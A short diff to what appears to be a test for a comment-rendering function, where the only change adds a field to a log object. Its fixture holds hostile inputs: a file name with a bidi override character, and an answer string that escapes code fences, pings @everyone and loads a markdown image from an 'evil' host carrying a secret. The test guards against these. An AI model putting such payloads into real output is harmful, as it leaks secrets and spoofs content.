@@ -279,7 +279,7 @@ describe("the comment", () => {
     ],
     changed: ["a`b|c\u202Ed.js"],
     answer: "```\n@everyone ![x](http://evil/?q=secret)\n````\n</details>",
-    log: { entries: 3, isVerified: true, proof: null },
+    log: { entries: 3, isVerified: true, proof: null, meant: null },
   };
   it("shows what others wrote as code, which nothing of theirs ends", () => {
     const body = commentBody(summary);
